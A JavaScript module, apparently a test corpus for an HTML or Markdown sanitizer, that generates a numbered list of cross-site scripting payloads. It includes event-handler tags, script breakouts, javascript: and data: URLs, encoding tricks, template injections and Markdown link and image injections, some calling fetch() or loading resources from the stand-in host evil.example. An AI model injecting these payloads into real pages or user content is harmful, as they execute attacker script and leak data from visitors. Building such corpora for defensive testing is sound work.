// What someone might store to make a page run it. Each says its number, so that what runs can be told.
const EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onbegin", "onend", "onrepeat",
  "onanimationstart", "onanimationend", "ontransitionend", "onpointerenter", "onpointerover", "onwheel", "onscroll", "onscrollend",
  "oncut", "oncopy", "onpaste", "oninput", "onchange", "onsubmit", "onreset", "onkeydown", "onresize", "onhashchange",
  "onpageshow", "onbeforeprint", "oncanplay", "onloadstart", "onstalled", "onauxclick", "oncontentvisibilityautostatechange",
  "onfocusin", "onbeforetoggle", "onsecuritypolicyviolation", "onunhandledrejection", "onmessage"];
const ELEMENTS = ["<img src=x EVENT=RUN>", "<svg EVENT=RUN>", "<input autofocus EVENT=RUN>", "<details open EVENT=RUN><summary>x</summary></details>",
  "<video autoplay src=x EVENT=RUN></video>"];
const PLAIN = [
  "<script>RUN</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<script/x>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
  "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>", "</pre><script>RUN</script>", "--><script>RUN</script>",
  "]]><script>RUN</script>", "\"><script>RUN</script>", "'><script>RUN</script>", "\" onmouseover=\"RUN\" x=\"", "' autofocus onfocus='RUN' x='", "` onerror=RUN `",
  "<iframe src=\"javascript:RUN\"></iframe>", "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>", "<object data=\"javascript:RUN\"></object>",
  "<embed src=\"javascript:RUN\">", "<base href=\"https://evil.example/\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:RUN\">",
  "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/x)}</style>",
  "<form action=\"javascript:RUN\"><button>go</button></form>", "<button formaction=\"javascript:RUN\">go</button>", "<isindex action=javascript:RUN type=image>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></math>", "<svg><script>RUN</script></svg>", "<svg><a xlink:href=\"javascript:RUN\"><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:RUN /></svg>", "<svg><set attributeName=onmouseover to=RUN /></svg>", "<svg><use href=\"data:image/svg+xml,<svg onload=RUN>\"/></svg>",
  "<svg><foreignObject><body onload=RUN></foreignObject></svg>", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>", "<template><script>RUN</script></template>",
  "<xmp><img src=x onerror=RUN></xmp>", "<plaintext><script>RUN</script>", "<table background=\"javascript:RUN\"><td>", "<div style=\"background:url(javascript:RUN)\">x</div>",
  "<div style=\"width:expression(RUN)\">x</div>", "<a href=\"javascript:RUN\">x</a>", "<a href=\"java\tscript:RUN\">x</a>", "<a href=\"&#106;avascript:RUN\">x</a>",
  "<a href=\" javascript:RUN\">x</a>", "<a href=\"data:text/html,<script>RUN</script>\">x</a>", "<a href=\"vbscript:RUN\">x</a>", "<img src=\"javascript:RUN\">",
  "<img src=https://evil.example/pixel.png>", "<img srcset=\"https://evil.example/a 1x\">", "<image href=https://evil.example/a>", "<picture><source srcset=https://evil.example/a><img></picture>",
  "<audio src=https://evil.example/a autoplay>", "<track src=https://evil.example/a>", "<body onload=RUN>", "<body background=https://evil.example/a>", "<frameset onload=RUN><frame></frameset>",
  "<marquee onstart=RUN>x</marquee>", "<dialog open oncancel=RUN>x</dialog>", "<portal src=https://evil.example/>", "<input type=image src=x onerror=RUN>", "<keygen autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN></select>", "<textarea autofocus onfocus=RUN></textarea>", "<x contenteditable onblur=RUN>x</x>", "<%3Cscript>RUN</script>", "%3Cscript%3ERUN%3C/script%3E",
  "&lt;script&gt;RUN&lt;/script&gt;", "&#x3C;script&#x3E;RUN&#x3C;/script&#x3E;", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\u003cimg src\u003dx onerror\u003dRUN\u003e", "＜script＞RUN＜/script＞",
  "{{constructor.constructor('RUN')()}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{{7*7}}", "[[${RUN}]]", "';RUN;//", "\";RUN;//", "\\';RUN;//", "*/RUN/*", "`;RUN;`", "javascript:RUN", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//",
  "\u2028RUN\u2029", "\u202e<script>RUN</script>", "<img/src=x/onerror=RUN>", "<img src=x:x onerror=RUN//", "<<img src=x onerror=RUN>>", "<img src=`x`onerror=RUN>", "<img \u000csrc=x \u000conerror=RUN>",
];
const MARKDOWN = [
  "[x](javascript:RUN)", "[x](JAVASCRIPT:RUN)", "[x](java&#x73;cript:RUN)", "[x](javascript&colon;RUN)", "[x](&#106;avascript:RUN)", "[x](<javascript:RUN>)", "[x]( javascript:RUN )", "[x](\tjavascript:RUN)",
  "[x](vbscript:RUN)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](file:///far/canary)", "[x](//evil.example/x)", "[x](\\\\evil.example\\x)", "[x](https://a.example/\"onmouseover=\"RUN)",
  "[x](https://a.example/ \"title\" onmouseover=\"RUN\")", "[x](a \"\\\"><script>RUN</script>\")", "[x][r]\n\n[r]: javascript:RUN", "[r]: javascript:RUN\n[r]", "<javascript:RUN>", "<javascript&colon;RUN>", "<data:text/html,<script>RUN</script>>",
  "![x](javascript:RUN)", "![x](https://evil.example/pixel.png)", "![x](//evil.example/pixel.png)", "![x](data:image/svg+xml,<svg/onload=RUN>)", "![\"onerror=\"RUN](x.png)", "![x](x.png\"onerror=\"RUN)", "![x](\"onerror=RUN//.png)",
  "![x][i]\n\n[i]: https://evil.example/pixel.png", "[![x](https://evil.example/a.png)](javascript:RUN)", "[[javascript:RUN]]", "[[a|<script>RUN</script>]]", "[[\"><script>RUN</script>]]", "![[javascript:RUN]]", "![[https://evil.example/a.png]]",
  "```\"><script>RUN</script>\ncode\n```", "```html\n<script>RUN</script>\n```", "~~~ \" onmouseover=\"RUN\ncode\n~~~", "`<script>RUN</script>`", "    <script>RUN</script>", "<div>\n\n**x**\n\n<script>RUN</script>\n\n</div>", "<!-- <script>RUN</script> -->",
  "<!--> <script>RUN</script> -->", "<![CDATA[<script>RUN</script>]]>", "<?php RUN ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"https://evil.example/\">]>", "| a |\n|---|\n| <script>RUN</script> |", "# <script>RUN</script>", "> <script>RUN</script>",
  "- <img src=x onerror=RUN>", "1. <svg onload=RUN>", "*<script>RUN</script>*", "[^1]\n\n[^1]: <script>RUN</script>", "- [ ] <script>RUN</script>", "---\ntitle: </pre><script>RUN</script>\n---\n", "$$<script>RUN</script>$$", "{#id onclick=RUN}", "# x {onclick=RUN}",
  "<a href=\"https://a.example\" onclick=\"RUN\">x</a>", "a<br onclick=RUN>b", "[a](https://a.example/?q=<script>RUN</script>)", "https://a.example/<script>RUN</script>", "&lt;img src=x onerror=RUN&gt;", "\\<script>RUN\\</script>",
  `${"> ".repeat(3000)}<script>RUN</script>`, `${"[".repeat(3000)}x](javascript:RUN)`, `${"*".repeat(3000)}<script>RUN</script>`, `${"- ".repeat(800)}<img src=x onerror=RUN>`, `${"<div>".repeat(3000)}<script>RUN</script>`,
];

const crossed = EVENTS.flatMap((event) => ELEMENTS.map((element) => element.replace("EVENT", event)));
const runs = ["alert(N)", "globalThis.pwned=N", "confirm(N)", "prompt(N)", "fetch('https://evil.example/N')"];

export const PAYLOADS = [...PLAIN, ...MARKDOWN, ...crossed]
  .map((text, index) => text.replaceAll("RUN", runs[index % runs.length].replace("N", index)));
